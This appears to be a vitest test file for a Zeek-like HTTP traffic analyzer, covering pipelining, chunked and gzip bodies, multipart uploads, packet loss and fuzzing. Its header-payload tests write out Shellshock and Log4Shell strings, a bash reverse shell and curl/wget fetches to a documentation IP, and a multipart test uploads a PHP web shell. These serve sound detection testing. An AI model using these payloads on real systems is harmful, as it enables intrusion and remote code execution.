import { createHash } from 'node:crypto';
import zlib from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { playHttp, type Step } from '../../../../test/build/play-http.ts';
import { bytesOfLatin1 } from '../../../base/bytes.ts';
import { http } from './http.ts';

const lines = (...parts: readonly string[]): string => parts.map((part) => `${part}\r\n`).join('');
const get = (uri = '/', ...headers: readonly string[]): string => lines(`GET ${uri} HTTP/1.1`, 'Host: www.example.org', ...headers, '');
const ok = (body: string, ...headers: readonly string[]): string =>
  lines('HTTP/1.1 200 OK', `Content-Length: ${body.length}`, ...headers, '') + body;
const latin1 = (bytes: Uint8Array): string => Buffer.from(bytes).toString('latin1');
const page = '<html><body>hello, world</body></html>';

describe('requests with their responses', () => {
  it('is one row with all that both sides said', () => {
    const request = lines(
      'POST /a%20b?x=1 HTTP/1.1',
      'Host: www.example.org:80',
      'User-Agent: curl/8',
      'Referer: http://example.org/',
      'Origin: http://example.org',
      'Authorization: Basic YWxpY2U6c2VjcmV0',
      'X-Forwarded-For: 192.0.2.7',
      'Via: 1.1 proxy',
      'Content-Length: 7',
      '',
    );
    const played = playHttp([
      ['>', `${request}a=1&b=2`],
      ['<', ok(page, 'Content-Disposition: attachment; filename="a%20page.html"')],
    ]);
    expect(played.http).toHaveLength(1);
    expect(played.http[0]).toMatchObject({
      ts: 1_000_000,
      uid: 'C0',
      'id.resp_p': 80,
      trans_depth: 1,
      method: 'POST',
      host: 'www.example.org:80',
      uri: '/a b?x=1',
      referrer: 'http://example.org/',
      version: '1.1',
      user_agent: 'curl/8',
      origin: 'http://example.org',
      request_body_len: 7,
      response_body_len: page.length,
      status_code: 200,
      status_msg: 'OK',
      info_code: undefined,
      tags: [],
      username: 'alice',
      password: undefined,
      proxied: ['X-FORWARDED-FOR -> 192.0.2.7', 'VIA -> 1.1 proxy'],
      orig_filenames: undefined,
      resp_filenames: ['a page.html'],
      resp_mime_types: ['text/html'],
      post_body: 'a=1&b=2',
      request_headers: undefined,
      resp_snippet: page,
    });
    expect(played.http[0]?.resp_fuids).toEqual([played.files[1]?.fuid]);
    expect(played.flow.services).toEqual(['http']);
    expect(played.files[1]).toMatchObject({
      uid: 'C0',
      source: 'HTTP',
      depth: 0,
      mime_type: 'text/html',
      filename: 'a page.html',
      is_orig: false,
      seen_bytes: page.length,
      total_bytes: page.length,
      missing_bytes: 0,
      timedout: false,
      md5: undefined,
      sha256: createHash('sha256').update(page).digest('hex'),
    });
  });

  it('pairs pipelined requests with the responses in order', () => {
    const played = playHttp([
      ['>', get('/1') + get('/2') + get('/3')],
      ['<', ok('one') + lines('HTTP/1.1 404 Not Found', 'Content-Length: 0', '') + ok('three')],
    ]);
    expect(played.http.map(({ uri, status_code, trans_depth }) => [uri, status_code, trans_depth])).toEqual([
      ['/1', 200, 1],
      ['/2', 404, 2],
      ['/3', 200, 3],
    ]);
  });

  it('takes no body for HEAD, 204 and 304, whatever the headers say', () => {
    const head = lines('HEAD / HTTP/1.1', '');
    const empty = (status: string): string => lines(`HTTP/1.1 ${status}`, 'Content-Length: 100', '');
    const played = playHttp([
      ['>', head + get('/2') + get('/3') + get('/4')],
      ['<', empty('200 OK') + empty('204 No Content') + empty('304 Not Modified') + ok('four')],
    ]);
    expect(played.http.map(({ status_code, response_body_len }) => [status_code, response_body_len])).toEqual([
      [200, 0],
      [204, 0],
      [304, 0],
      [200, 4],
    ]);
  });

  it('keeps the informational response beside the final one', () => {
    const played = playHttp([
      ['>', lines('POST / HTTP/1.1', 'Content-Length: 2', 'Expect: 100-continue', '')],
      ['<', lines('HTTP/1.1 100 Continue', '')],
      ['>', 'hi'],
      ['<', ok('done')],
    ]);
    expect(played.http).toHaveLength(1);
    expect(played.http[0]).toMatchObject({ status_code: 200, info_code: 100, info_msg: 'Continue', request_body_len: 2 });
  });

  it('writes a request without a response when the connection ends', () => {
    const played = playHttp([['>', get('/lost')]]);
    expect(played.http).toMatchObject([{ uri: '/lost', status_code: undefined, version: undefined, response_body_len: 0 }]);
  });

  it('writes a response without a request', () => {
    const played = playHttp([['<', ok('out of the blue')]]);
    expect(played.http).toMatchObject([{ method: undefined, uri: undefined, status_code: 200, response_body_len: 15, trans_depth: 1 }]);
    expect(played.flow.services).toEqual([]);
  });

  it('ends a body without length with the connection', () => {
    const played = playHttp([
      ['>', get()],
      ['<', `${lines('HTTP/1.0 200 OK', 'Connection: close', '')}all of`],
      ['<', ' this\n'],
      ['<', 'end'],
    ]);
    expect(played.http).toMatchObject([{ version: '1.0', response_body_len: 12, resp_snippet: 'all of this ' }]);
    expect(played.files).toMatchObject([{ seen_bytes: 12, total_bytes: undefined }]);
  });

  it('reads a bare HTTP/0.9 response', () => {
    const played = playHttp([
      ['>', 'GET /old\r\n'],
      ['<', 'just text, no headers'],
      ['<', 'end'],
    ]);
    // The request ends after its response, and so counts once more: Zeek writes the same second row.
    expect(played.http).toMatchObject([
      { method: 'GET', uri: '/old', version: '0.9', response_body_len: 21 },
      { trans_depth: 2, method: undefined },
    ]);
  });

  it('says nothing about a connection whose beginning was not seen', () => {
    expect(playHttp([['>', get()]], { seenFromStart: false }).http).toEqual([]);
  });

  it('writes all that waits when a client sends too many requests without a response', () => {
    const played = playHttp([['>', get('/').repeat(250)]]);
    expect(played.http).toHaveLength(250);
    expect(played.flow.weirds).toContain('HTTP_excessive_pipelining');
  });
});

describe('bodies', () => {
  const chunked = `${lines('HTTP/1.1 200 OK', 'Transfer-Encoding: chunked', '')}5;ext=1\r\nhello\r\n1\r\n \r\n005\r\nworld\r\n0\r\nX-Trailer: 1\r\n\r\n`;

  it('joins chunks and reads the trailer', () => {
    const played = playHttp([
      ['>', get('/1') + get('/2')],
      ['<', chunked + ok('next')],
    ]);
    expect(played.http).toMatchObject([{ response_body_len: 11, resp_snippet: 'hello world' }, { response_body_len: 4 }]);
    expect(played.files).toMatchObject([{ seen_bytes: 11, total_bytes: undefined }, { seen_bytes: 4 }]);
  });

  it('decompresses gzip and deflate cut anywhere, with the lengths of what came out', () => {
    const text = page.repeat(50);
    for (const [coding, data] of [
      ['gzip', zlib.gzipSync(text)],
      ['deflate', zlib.deflateSync(text)],
      ['deflate', zlib.deflateRawSync(text)],
    ] as const) {
      const response = ok(latin1(data), `Content-Encoding: ${coding}`);
      for (let cut = 1; cut < response.length; cut++) {
        const played = playHttp(
          [
            ['>', get()],
            ['<', response.slice(0, cut)],
            ['<', response.slice(cut)],
          ],
          { hashes: cut % 10 === 0 },
        );
        expect(played.http).toMatchObject([{ response_body_len: text.length, resp_mime_types: ['text/html'] }]);
        expect(played.files).toMatchObject([{ seen_bytes: text.length, total_bytes: undefined }]);
      }
    }
  });

  it('keeps what came out of damaged compressed data and says so', () => {
    const data = zlib.gzipSync(Buffer.from(Array.from({ length: 40_000 }, (_, i) => (i * i) % 251)));
    const damaged = Buffer.concat([data.subarray(0, data.length - 8), Buffer.alloc(8)]);
    const played = playHttp([
      ['>', get()],
      ['<', ok(latin1(damaged), 'Content-Encoding: gzip')],
    ]);
    expect(played.flow.weirds).toContain('inflate_failed');
    expect(played.http).toHaveLength(1);
  });

  it('stops at a decompression bomb', () => {
    const bomb = latin1(zlib.gzipSync(Buffer.alloc(100 << 20)));
    const played = playHttp(
      [
        ['>', get()],
        ['<', ok(bomb, 'Content-Encoding: gzip')],
      ],
      { hashes: false },
    );
    expect(played.flow.weirds).toContain('inflate_limit_exceeded');
    expect(played.http[0]?.response_body_len).toBeLessThan(65 << 20);
  });

  it('makes a file of every part of a multipart body', () => {
    const body = lines(
      '--b0',
      'Content-Disposition: form-data; name="note"',
      '',
      'a short note',
      '--b0',
      'Content-Disposition: form-data; name="up"; filename="shell.php"',
      'Content-Type: application/x-php',
      '',
      '<?php system($_GET["c"]);',
      '--b0',
      'Content-Disposition: form-data; name="b64"; filename="b.txt"',
      'Content-Transfer-Encoding: base64',
      '',
      'aGVsbG8sIA==',
      '--b0--',
    );
    const played = playHttp([
      [
        '>',
        lines('POST /up HTTP/1.1', 'Content-Type: multipart/form-data; boundary=b0', `Content-Length: ${body.length}`, '') +
          body +
          get('/next'),
      ],
      ['<', ok('') + ok('x')],
    ]);
    expect(played.http).toMatchObject([
      {
        uri: '/up',
        request_body_len: body.length,
        orig_filenames: ['shell.php', 'b.txt'],
        orig_mime_types: ['text/plain', 'text/x-php'],
      },
      { uri: '/next' },
    ]);
    expect(played.files.slice(0, 3)).toMatchObject([{ seen_bytes: 12 }, { seen_bytes: 25, filename: 'shell.php' }, { seen_bytes: 7 }]);
    expect(played.http[0]?.orig_fuids).toHaveLength(3);
  });

  it('ends a multipart body that lacks its last line end', () => {
    const body = `${lines('--b0', '', 'text of the part')}--b0--`;
    const played = playHttp([
      ['>', lines('POST / HTTP/1.1', 'Content-Type: multipart/mixed; boundary="b0"', `Content-Length: ${body.length}`, '')],
      ['>', body],
      ['<', ok('fine')],
    ]);
    expect(played.http).toMatchObject([{ method: 'POST', status_code: 200 }]);
    expect(played.flow.weirds).toEqual(['line_terminated_without_CRLF']);
  });

  it('puts ranges of one file together, in any order', () => {
    const whole = Array.from({ length: 300 }, (_, i) => `line ${i}\n`).join('');
    const range = (from: number, to: number): string =>
      lines('HTTP/1.1 206 Partial Content', `Content-Range: bytes ${from}-${to - 1}/${whole.length}`, `Content-Length: ${to - from}`, '') +
      whole.slice(from, to);
    for (const order of [
      [0, 1, 2],
      [2, 0, 1],
      [1, 2, 0],
    ]) {
      const cuts = [0, 700, 1500, whole.length];
      const steps = order.flatMap((part): Step[] => [
        ['>', get('/big', 'Range: bytes=0-')],
        ['<', range(cuts[part] ?? 0, cuts[part + 1] ?? 0)],
      ]);
      const played = playHttp(steps);
      expect(played.http).toHaveLength(3);
      expect(played.files).toMatchObject([
        { seen_bytes: whole.length, total_bytes: whole.length, missing_bytes: 0, timedout: false, mime_type: 'text/plain' },
      ]);
      expect(played.files[0]?.md5).toBe(createHash('md5').update(whole).digest('hex'));
    }
  });

  it('ends a range whose rest never came as timed out', () => {
    const played = playHttp([
      ['>', get('/big', 'Range: bytes=100-199')],
      ['<', `${lines('HTTP/1.1 206 Partial Content', 'Content-Range: bytes 100-199/1000', 'Content-Length: 100', '')}${'x'.repeat(100)}`],
    ]);
    expect(played.files).toMatchObject([{ seen_bytes: 100, missing_bytes: 100, total_bytes: 1000, timedout: true, md5: undefined }]);
  });

  it('shows the first bytes of a posted body, binary ones as dots', () => {
    const post = (body: string): string => lines('POST / HTTP/1.1', `Content-Length: ${body.length}`, '') + body;
    expect(playHttp([['>', post('cmd=id\r\n')]]).http[0]?.post_body).toBe(String.raw`cmd=id\x0d\x0a`);
    expect(playHttp([['>', post('\xac\xed\0\x05sr\0\x11wget http://x/\x80\x81')]]).http[0]?.post_body).toBe('.sr.wget http://x/.');
    expect(playHttp([['>', post('y'.repeat(10_000))]]).http[0]?.post_body).toHaveLength(4096);
  });
});

describe('loss', () => {
  it('goes on behind a hole inside a body of known length', () => {
    const played = playHttp([
      ['>', get('/1') + get('/2')],
      ['<', `${lines('HTTP/1.1 200 OK', 'Content-Length: 100', '')}${'a'.repeat(30)}`],
      ['<', 40],
      ['<', 'b'.repeat(30) + ok('next')],
    ]);
    expect(played.http).toMatchObject([{ response_body_len: 100 }, { response_body_len: 4 }]);
    expect(played.files).toMatchObject([
      { seen_bytes: 60, missing_bytes: 40, total_bytes: 100, mime_type: 'text/plain', sha1: undefined },
      { seen_bytes: 4 },
    ]);
  });

  it('gives up a side at a hole in its headers, and responses with the requests', () => {
    const played = playHttp([
      ['>', 'GET / HTTP/1.1\r\nHos'],
      ['>', 20],
      ['>', get('/2')],
      ['<', ok('one')],
    ]);
    expect(played.http.map(({ uri, status_code }) => [uri, status_code])).toEqual([['/', 200]]);
  });
});

describe('other protocols', () => {
  it('hands the rest over behind CONNECT', () => {
    const played = playHttp([
      ['>', lines('CONNECT mail.example.org:25 HTTP/1.1', '')],
      ['<', lines('HTTP/1.1 200 Connection established', '')],
      ['<', '220 mail.example.org ESMTP\r\n'],
    ]);
    expect(played.flow.handedTo).toEqual([undefined]);
    expect(played.http).toMatchObject([{ method: 'CONNECT', uri: 'mail.example.org:25', status_code: 200, response_body_len: 0 }]);
  });

  it('stays when the proxy refuses', () => {
    const played = playHttp([
      ['>', lines('CONNECT a:1 HTTP/1.1', '')],
      ['<', lines('HTTP/1.1 403 Forbidden', 'Content-Length: 0', '')],
    ]);
    expect(played.flow.handedTo).toEqual([]);
  });

  it('names the protocol that a connection is upgraded to', () => {
    const played = playHttp([
      ['>', get('/chat', 'Upgrade: websocket', 'Connection: Upgrade')],
      ['<', lines('HTTP/1.1 101 Switching Protocols', 'Upgrade: WebSocket', 'Connection: Upgrade', '')],
    ]);
    expect(played.flow.handedTo).toEqual(['websocket']);
    expect(played.flow.services).toEqual(['http', 'websocket']);
    expect(played.http).toMatchObject([{ uri: '/chat', status_code: 101, info_code: 101 }]);
  });

  it('takes the protocol back when a request line is none', () => {
    const played = playHttp([
      ['>', '\x16\x03\x01\x02\0\x01\r\n'],
      ['<', ok('x')],
    ]);
    expect(played.flow.rejected).toBe('not a http request line');
    expect(played.flow.weirds).toEqual(['bad_HTTP_request']);
    expect(played.http).toEqual([]);
  });

  it('recognises both sides by their first bytes', () => {
    const probe = (fromClient: boolean, text: string): string => http.probe(fromClient, bytesOfLatin1(text), 0, text.length);
    expect(probe(true, 'GET / HTTP/1.1')).toBe('yes');
    expect(probe(true, '\r\nPROPFIND /')).toBe('yes');
    expect(probe(true, 'PRO')).toBe('more');
    expect(probe(true, 'EHLO x')).toBe('no');
    expect(probe(false, 'http/1.1 200')).toBe('yes');
    expect(probe(false, 'HTTP/')).toBe('more');
    expect(probe(false, 'SSH-2.0')).toBe('no');
  });
});

describe('payloads in headers', () => {
  const kept = (header: string): readonly string[] | undefined => playHttp([['>', get('/', header)]]).http[0]?.request_headers;

  it('keeps header lines with syntax of shells and look-ups', () => {
    for (const header of [
      'User-Agent: () { :; }; /bin/bash -c "id"',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload itself
      'X-Api-Version: ${jndi:ldap://192.0.2.1/a}',
      'Cookie: a=1; wget http://192.0.2.1/x',
      'Accept: `id`',
      'X: $(curl 192.0.2.1)',
      'X: | sh',
      'X: bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
      'Referer: <?php phpinfo(); ?>',
    ]) {
      expect(kept(header)).toEqual([header]);
    }
  });

  it('looks into basic credentials, and keeps no ordinary ones', () => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload itself
    const attack = `Authorization: Basic ${btoa('attacker:${${lower:jndi}:ldap://192.0.2.1/a}')}`;
    expect(kept(attack)).toEqual([attack]);
    expect(kept(`Authorization: Basic ${btoa('alice:correct horse; battery')}`)).toBeUndefined();
    expect(kept('Authorization: Basic !!!')).toBeUndefined();
  });

  it('keeps none of an ordinary request', () => {
    for (const header of [
      'User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:1.0) Gecko/20100101 Firefox/1.0',
      'Accept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8',
      'Cookie: id=1; cat=2; ls=3; session=a|b&c',
      'Referer: http://example.org/bin/?a=1&id=2',
    ]) {
      expect(kept(header)).toBeUndefined();
    }
  });
});

const conversation: readonly Step[] = [
  [
    '>',
    get('/1', 'Cookie: a', ' folded') +
      lines('POST /2 HTTP/1.1', 'Content-Type: multipart/form-data; boundary=xx', 'Content-Length: 64', ''),
  ],
  ['>', '--xx\r\nContent-Disposition: form-data; filename=a\r\n\r\na\r\nb\r\n--xx--'],
  ['<', ok(page) + lines('HTTP/1.1 100 Continue', '')],
  ['<', `${lines('HTTP/1.1 200 OK', 'Transfer-Encoding: chunked', 'Content-Encoding: gzip', '')}`],
  ['<', latin1(zlib.gzipSync(page)).replace(/^.*$/s, (data) => `${data.length.toString(16)}\r\n${data}\r\n0\r\n\r\n`)],
  ['>', get('/3')],
  ['<', `${lines('HTTP/1.1 200 OK', '')}no length\nat all\n`],
  ['<', 'end'],
];
const steady = (played: ReturnType<typeof playHttp>): unknown => [played.http, played.files, played.flow.weirds, played.flow.services];

describe('any bytes', () => {
  it('gives the same rows however the bytes are cut into segments', () => {
    const expected = steady(playHttp(conversation, { sameTime: true }));
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: 40 }), { minLength: 1, maxLength: 30 }), (sizes) => {
        const steps = conversation.flatMap(([side, what]): Step[] => {
          if (typeof what !== 'string' || what === 'end') return [[side, what]];
          const cut: Step[] = [];
          for (let at = 0, i = 0; at < what.length; i++) {
            const size = sizes[i % sizes.length] ?? 1;
            cut.push([side, what.slice(at, at + size)]);
            at += size;
          }
          return cut;
        });
        expect(steady(playHttp(steps, { sameTime: true }))).toEqual(expected);
      }),
      { numRuns: 200 },
    );
  });

  it('survives the end of the connection at every byte', () => {
    const all = conversation.map(([side, what]) => [side, String(what)] as const);
    for (let kept = 0; kept < 700; kept++) {
      let left = kept;
      const steps: Step[] = [];
      for (const [side, text] of all) {
        steps.push([side, text.slice(0, left)]);
        left -= Math.min(left, text.length);
      }
      expect(() => playHttp(steps)).not.toThrow();
    }
  });

  it('takes hostile lines in linear time', () => {
    const size = 1 << 18;
    const header = (value: string): Step => ['>', get('/', value)];
    for (const step of [
      header(`A: ${';'.repeat(size)}`),
      header(`A: ${'; w'.repeat(size / 3)}`),
      header('('.repeat(size)),
      header(`Content-Disposition: ${'filename  '.repeat(size / 10)}=`),
      header(`Content-Type: multipart/x${'; boundary'.repeat(size / 10)}`),
      ['>', `GET / HTTP/1.1\r\nA: b\r\n${' c\r\n'.repeat(size / 4)}`],
      ['>', `GET /${'%41'.repeat(size / 3)} HTTP/1.1\r\n\r\n`],
    ] satisfies Step[]) {
      const began = performance.now();
      playHttp([step], { hashes: false });
      expect(performance.now() - began).toBeLessThan(1000);
    }
  });

  it('survives 10 000 random inputs', () => {
    const words = [
      'GET ',
      ' HTTP/1.1',
      '\r\n',
      '\r',
      '\n',
      'Content-Length: 5',
      'Transfer-Encoding: chunked',
      '--b',
      'HTTP/1.1 200 OK',
      '\0',
      '5\r\n',
      ' ',
      ':',
      '%',
    ];
    const part = fc.oneof(fc.constantFrom(...words), fc.uint8Array({ maxLength: 20 }).map(latin1));
    const step = fc.oneof(
      {
        weight: 8,
        arbitrary: fc.tuple(
          fc.constantFrom('>' as const, '<' as const),
          fc.array(part, { maxLength: 12 }).map((parts) => parts.join('')),
        ),
      },
      { weight: 1, arbitrary: fc.tuple(fc.constantFrom('>' as const, '<' as const), fc.integer({ min: 1, max: 10 })) },
    );
    fc.assert(
      fc.property(fc.array(step, { maxLength: 6 }), (steps) => {
        expect(() => playHttp(steps, { hashes: false })).not.toThrow();
      }),
      { numRuns: 10_000 },
    );
  });
});
